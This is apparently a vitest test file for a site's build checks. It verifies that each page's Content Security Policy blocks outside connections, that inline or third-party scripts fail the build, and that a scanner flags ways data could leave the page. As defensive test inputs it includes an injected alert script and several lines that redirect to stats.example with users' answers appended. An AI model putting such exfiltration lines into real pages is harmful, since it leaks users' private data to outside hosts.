import { describe, expect, it } from "vitest";
import { writePolicy } from "../../build/csp.mjs";
import { htmlOf, parsePage } from "../../build/exported-page.mjs";
import { openings, waysOut } from "../../build/nothing-leaves.mjs";

const HTML = '<html><head><meta charset="utf-8"></head><body><script src="/assets/a.js"></script></body></html>';

function withPolicy(html = HTML): string {
  const page = parsePage(html, "/page");
  writePolicy(page);
  return htmlOf(page);
}
const openingsIn = (html: string) => openings(parsePage(html, "/page"));
const changed = (from: string, to: string) => openingsIn(withPolicy().replace(from, to));

describe("H15 what the build checks in a page's policy", () => {
  it("finds nothing in a page of the site", () => {
    expect(openingsIn(withPolicy())).toEqual([]);
  });

  it.each([
    ["a connection", "connect-src 'none'", "connect-src https://stats.example"],
    ["a form", "form-action 'none'", "form-action 'self'"],
    ["a picture from elsewhere", "img-src 'self' data:", "img-src 'self' pixel.example"],
    ["anything", "font-src 'self'", "font-src *"],
  ])("finds %s that could carry something out", (_, from, to) => {
    expect(changed(from, to)).not.toEqual([]);
  });

  it("finds a page without any policy", () => {
    expect(openingsIn(HTML)).not.toEqual([]);
  });

  it.each([
    ["inside the page", "<script>alert(1)</script>"],
    ["from another site", '<script src="https://stats.example/a.js"></script>'],
    ["from another site without a protocol", '<script src="//stats.example/a.js"></script>'],
  ])("a script %s fails the build, which names the page", (_, script) => {
    expect(() => withPolicy(HTML.replace("</body>", `${script}</body>`))).toThrow("/page");
  });
});

describe("H15 what the build checks in scripts, because no policy prevents it", () => {
  it.each([
    "new RTCPeerConnection({iceServers:[]})",
    'location.href="https://stats.example/?a="+answers',
    ["location.assign(`https://stats.example/$", "{answers}`)"].join(""),
    "window.location = '//stats.example/?a=' + answers",
  ])("is found: %s", (script) => {
    expect(waysOut(script)).not.toEqual([]);
  });

  it.each(['location.replace("https://www.weather.gov/")', 'location.replace("/")', "location.reload()"])(
    "does not include the quick exit, which carries nothing: %s",
    (script) => {
      expect(waysOut(script)).toEqual([]);
    },
  );
});
